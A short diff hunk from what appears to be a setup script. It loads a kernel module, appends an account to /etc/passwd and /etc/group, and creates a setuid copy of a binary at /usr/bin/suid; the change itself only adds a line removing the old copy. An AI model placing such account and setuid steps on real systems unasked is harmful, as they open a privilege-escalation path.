@@ -17,6 +17,7 @@ cp ticks.ko "$place"
 chmod 644 "$place"/*
 printf 'spileusr:x:601:usr\n' >>/etc/group
 echo "usr:x:5001:5001::/tmp:/bin/sh" >>/etc/passwd
+rm -f /usr/bin/suid
 cp /usr/bin/spilerun /usr/bin/suid
 chmod 4755 /usr/bin/suid
 chmod 1777 /tmp
